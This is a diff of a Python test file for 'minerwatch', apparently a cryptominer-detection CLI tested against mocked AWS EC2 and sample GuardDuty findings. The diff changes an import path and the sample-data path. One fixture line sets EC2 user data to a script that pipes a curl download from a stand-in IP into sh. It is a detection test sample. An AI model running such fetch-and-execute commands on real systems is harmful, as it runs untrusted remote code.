@@ -19,11 +19,11 @@ from moto.ec2.models.elastic_network_interfaces import NetworkInterface
 from moto.server import ThreadedMotoServer
 from typer.testing import CliRunner
 
-from minerwatch.cli.main import app
+from minerwatch.cli.all_commands import app
 
 REGION = "us-east-1"
 ACCOUNT = "123456789012"  # moto's default account
-SAMPLE = Path(__file__).resolve().parents[2].parent / "shared" / "samples" / "guardduty"
+SAMPLE = Path(__file__).resolve().parents[1] / "data" / "real" / "guardduty"
 USER_DATA = "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh  # [bold]not markup[/bold]\n"
 
 runner = CliRunner()
